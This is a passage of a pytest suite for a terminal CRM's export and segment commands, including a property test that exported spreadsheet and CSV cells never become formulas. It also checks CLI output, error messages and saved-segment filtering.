        with pytest.raises(Invalid) as caught:  # two users share one name
            segments.get_segment(s, rep, "Moscow")
        assert "admin/Moscow" in str(caught.value) and "rep_2/Moscow" in str(caught.value)
        assert segments.get_segment(s, rep, "rep_2/Moscow").owner == "rep_2"


# ------------------------------------------------------------------ formulas: a property


def test_no_text_becomes_a_formula(db: Database, admin: Actor, tmp_path: Path) -> None:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    if db.dialect != "sqlite":
        pytest.skip("one backend is enough for a property of the writers")
    starts = st.sampled_from(["=", "+", "-", "@", "'", "", "==", "=-"])
    body = st.text(
        st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=40
    )

    @settings(
        max_examples=40,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(start=starts, text=body)
    def check(start: str, text: str) -> None:
        with db.write() as s:
            try:
                card = clients.create_client(s, admin, {"name": start + text})
            except Invalid:
                return  # a name of nothing but spaces
        flt = ClientFilter()
        xlsx, csv_out = tmp_path / "p.xlsx", tmp_path / "p.csv"
        with db.read() as s:
            exporter.export(s, admin, "clients", "xlsx", xlsx, client_filter=flt)
            exporter.export(s, admin, "clients", "csv", csv_out, client_filter=flt)
        ws = openpyxl.load_workbook(xlsx).active
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
        names = {r[0].value: r[1].value for r in ws.iter_rows(min_row=2)}
        assert names[card.id] == card.name
        data = CalamineWorkbook.from_path(str(xlsx)).get_sheet_by_index(0).to_python()
        assert {int(r[0]): r[1] for r in data[1:]}[card.id] == card.name
        rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
        text_cell = {int(r[0]): r[1] for r in rows[1:]}[card.id]
        assert unguard_csv(text_cell) == card.name
        assert not text_cell.startswith(("=", "+", "-", "@"))
        with db.write() as s:
            clients.delete_client(s, admin, card.id, version=card.version)

    check()


# ------------------------------------------------------------------ the commands

runner = CliRunner()


class Cli:
    def __init__(self, url: str) -> None:
        self.url = url

    def __call__(self, *args: str, code: int = 0) -> Any:
        result = runner.invoke(app, ["--db", self.url, *args])
        assert result.exit_code == code, (args, result.exit_code, result.output)
        assert "Traceback" not in result.output
        return result


@pytest.fixture
def cli(db_url: str, plain_settings: None) -> Cli:
    return Cli(db_url)


def _seed(cli: Cli) -> None:
    cli("client", "add", "--name", "ООО Ромашка", "--city", "Москва", "--status", "active")
    cli("client", "add", "--name", FORMULA, "--city", "Boston", "--tag", "vip")
    cli("client", "add", "--name", "ACME", "--city", "Boston", "--status", "active")


def test_cli_export_to_stdout(cli: Cli) -> None:
    _seed(cli)
    result = cli("export", "clients", "--out", "-", "--format", "csv")
    assert "Exported 3 clients to standard output" in result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["Name"] for r in rows] == ["'" + FORMULA, "ACME", "ООО Ромашка"]
    assert not result.stdout.startswith("\ufeff")  # no BOM in a pipe

    result = cli("export", "clients", "-o", "-", "-f", "json", "--city", "Boston")
    objects = json.loads(result.stdout)
    assert [o["Name"] for o in objects] == [FORMULA, "ACME"]
    result = cli("export", "clients", "-o", "-", "-f", "json", "--search", "ромаш", "--quiet")
    assert [o["Name"] for o in json.loads(result.stdout)] == ["ООО Ромашка"]
    assert result.stderr == ""


def test_cli_export_to_files(cli: Cli, tmp_path: Path) -> None:
    _seed(cli)
    out = tmp_path / "clients.xlsx"
    result = cli("export", "clients", "--out", str(out), "--status", "active")
    assert f"Exported 2 clients to {out}" in result.stderr
    assert result.stdout == ""
    ws = openpyxl.load_workbook(out).active
    assert [r[1].value for r in ws.iter_rows(min_row=2)] == ["ACME", "ООО Ромашка"]

    out = tmp_path / "clients.vcf"  # the format from the suffix
    cli("export", "clients", "--out", str(out), "--tag", "vip")
    assert out.read_text(encoding="utf-8").count("BEGIN:VCARD") == 1
    cli("export", "tasks", "--out", str(tmp_path / "tasks.ics"), "--status", "open")
    assert "BEGIN:VCALENDAR" in (tmp_path / "tasks.ics").read_text(encoding="utf-8")
    out = tmp_path / "journal.csv"
    cli("export", "journal", "--out", str(out), "--from", "2026-01-01", "--to", "2026-01-31")
    assert out.read_text(encoding="utf-8-sig").startswith("ID,When,Kind")
    result = cli("export", "contacts", "--out", str(tmp_path / "one.csv"), "--quiet")
    assert result.stderr == "" and result.stdout == ""


def test_cli_refusals(cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _seed(cli)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    import termcrm.cli.export as command

    monkeypatch.setattr(command, "stdout_is_tty", lambda: True)
    result = cli("export", "clients", "--out", "-", "--format", "xlsx", code=1)
    assert "xlsx workbook is binary" in result.stderr
    monkeypatch.undo()

    result = cli("export", "deals", "--out", str(tmp_path / "d.vcf"), code=1)
    assert "deals cannot be exported as vcf; use one of: xlsx, csv, json" in result.stderr
    result = cli("export", "journal", "--group", "x", "--out", str(tmp_path / "j.csv"), code=1)
    assert "--group does not filter journal" in result.stderr
    result = cli("export", "clients", "--out", "-", code=1)
    assert "give --format" in result.stderr
    result = cli("export", "clients", "--out", str(tmp_path / "c.txt"), code=1)
    assert "cannot tell the format" in result.stderr
    result = cli("export", "clients", "--out", str(tmp_path / "c.csv"), "-f", "json", code=1)
    assert "make them agree" in result.stderr
    result = cli("export", "clients", "--out", str(tmp_path / "nowhere" / "c.csv"), code=1)
    assert "nowhere/c.csv" in result.stderr and "No such file" in result.stderr
    result = cli("export", "clients", "--segment", "nope", "--out", "-", "-f", "csv", code=1)
    assert "no segment 'nope'" in result.stderr
    result = cli("export", "invoices", "--out", "-", "-f", "csv", code=1)
    assert "choose one of clients, contacts, journal, tasks, deals" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_cli_segments(cli: Cli) -> None:
    _seed(cli)
    result = cli("segment", "save", "Boston", "--city", "Boston", "--shared")
    assert "Saved segment 'Boston' (version 1, shared): city Boston" in result.stdout
    cli("segment", "save", "Active", "--status", "active", "--search", "acme")
    listed = json.loads(cli("segment", "list", "--format", "json").stdout)
    assert [(x["name"], x["shared"]) for x in listed] == [("Active", False), ("Boston", True)]
    assert listed[0]["filters"] == {"status": "active"} and listed[0]["search"] == "acme"
    assert "Boston" in cli("segment", "list").stdout

    result = cli("export", "clients", "--segment", "Boston", "-o", "-", "-f", "json")
    assert [o["Name"] for o in json.loads(result.stdout)] == [FORMULA, "ACME"]
    # an option given with a segment replaces the segment's value for it
    result = cli(
        "export", "clients", "--segment", "Boston", "--status", "active", "-o", "-", "-f", "json"
    )
    assert [o["Name"] for o in json.loads(result.stdout)] == ["ACME"]
    result = cli("export", "clients", "--segment", "Active", "-o", "-", "-f", "json")
    assert [o["Name"] for o in json.loads(result.stdout)] == ["ACME"]

    assert "Deleted segment 'Boston'." in cli("segment", "delete", "Boston").stdout
    cli("segment", "delete", "Boston", code=1)
    assert [x["name"] for x in json.loads(cli("segment", "list", "-f", "json").stdout)] == [
        "Active"
    ]


def test_cli_help_lists_the_commands(cli: Cli) -> None:
    out = runner.invoke(app, ["--help"]).output
    assert "export" in out and "segment" in out
    out = runner.invoke(app, ["export", "--help"]).output
    assert "--segment" in out and "--quiet" in out
